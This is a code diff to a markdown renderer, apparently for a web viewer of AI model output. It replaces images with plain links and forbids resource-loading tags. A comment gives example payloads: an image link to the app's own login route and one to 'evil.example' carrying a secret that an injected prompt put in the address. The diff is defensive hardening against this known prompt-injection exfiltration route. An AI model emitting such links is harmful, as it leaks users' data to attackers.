@@ -20,8 +20,20 @@ const marked = new Marked({
         `<pre><code class="hljs${language ? ` language-${escapeHtml(language)}` : ''}">${body}</code></pre></div>\n`
       );
     },
+    // Model output must not make the viewer's browser load anything by
+    // itself: an image is written as a link the viewer may follow. Else
+    // `![x](/login?token=x)` would hit ccweb's own routes with the viewer's
+    // cookie, and `![x](https://evil.example/?secret)` would carry
+    // whatever an injected prompt put in the address off to another host.
+    image({ href, text }: Tokens.Image): string {
+      const label = escapeHtml(text || href);
+      return `<a class="md-image-link" href="${escapeHtml(href)}">Image: ${label}</a>`;
+    },
   },
 });
+
+/** Tags whose attributes make a browser fetch something on its own. */
+const LOADING_TAGS = ['img', 'picture', 'source', 'video', 'audio', 'track', 'image', 'svg'];
 
 let purifier: DOMPurify | null = null;
 
@@ -48,7 +60,7 @@ export function renderMarkdown(text: string): string {
   }
   return purify().sanitize(html, {
     USE_PROFILES: { html: true },
-    FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed'],
+    FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed', ...LOADING_TAGS],
     FORBID_ATTR: ['style'],
   });
 }
